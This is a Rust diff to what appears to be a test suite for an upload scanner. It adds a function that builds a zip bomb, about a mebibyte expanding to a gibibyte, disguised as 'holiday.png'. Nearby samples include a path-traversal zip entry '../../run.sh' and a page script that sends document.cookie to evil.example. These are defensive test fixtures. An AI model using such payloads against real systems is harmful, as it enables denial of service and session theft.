@@ -5,7 +5,10 @@
 
 use app::desk::DeskReport;
 use app::reports::What;
+use flate2::write::DeflateEncoder;
+use flate2::{Compression, Crc};
 use sha2::{Digest, Sha256};
+use std::io::Write;
 use tests::town::{Town, eventually, fetched};
 use tests::{Engine, Talk};
 
@@ -28,6 +31,36 @@ fn bad(
     Bad { name, mime, bytes: bytes.to_vec(), found, cleaned: cleaned.into() }
 }
 
+/// An archive of a mebibyte with one file of a gibibyte in it, all zeros: what a mebibyte is packed into, again and again.
+fn bomb() -> Vec<u8> {
+    let zeros = vec![0_u8; 1 << 20];
+    let (mut packer, mut one, mut sum) = (DeflateEncoder::new(Vec::new(), Compression::best()), Crc::new(), Crc::new());
+    packer.write_all(&zeros).unwrap();
+    packer.flush().unwrap();
+    one.update(&zeros);
+    for _ in 0..1_024 {
+        sum.combine(&one);
+    }
+    let packed = [&packer.get_ref().repeat(1_024)[..], b"\x03\0"].concat();
+    let packed_size = u32::try_from(packed.len()).unwrap();
+    assert!(packed_size < 2 << 20, "{packed_size}");
+    let name = b"zeros";
+    // what both heads of the file say: version, deflated, no time, sum, sizes, length of the name
+    let says = [
+        &b"\x14\0\0\0\x08\0\0\0\0\0"[..],
+        &sum.sum().to_le_bytes(),
+        &packed_size.to_le_bytes(),
+        &(1u32 << 30).to_le_bytes(),
+        b"\x05\0\0\0",
+    ]
+    .concat();
+    let file = [b"PK\x03\x04", &says[..], name, &packed].concat();
+    let list = [b"PK\x01\x02\x14\0", &says[..], &[0; 14], name].concat();
+    let [list_size, list_at] = [list.len(), file.len()].map(|n| u32::try_from(n).unwrap().to_le_bytes());
+    let end = [b"PK\x05\x06\0\0\0\0\x01\0\x01\0", &list_size[..], &list_at, &[0; 2]].concat();
+    [file, list, end].concat()
+}
+
 fn all() -> Vec<Bad> {
     let zip = [b"PK\x03\x04", &[0; 26][..], b"../../run.sh"].concat();
     let page = b"<!DOCTYPE html><script>fetch('//evil.example/' + document.cookie)</script>";
@@ -38,6 +71,7 @@ fn all() -> Vec<Bad> {
     vec![
         bad("archive.zip", "application/zip", &zip, "zip", "archive.zip"),
         bad("photo.jpg", "image/jpeg", &zip, "zip", "photo.jpg"),
+        bad("holiday.png", "image/png", &bomb(), "zip", "holiday.png"),
         bad("drawing.svg", "image/svg+xml", drawing, "svg", "drawing.svg"),
         bad("photo.jpeg", "image/jpeg", page, "html", "photo.jpeg"),
         bad("two-faces.png", "image/png", &two_faces, "png", "two-faces.png"),
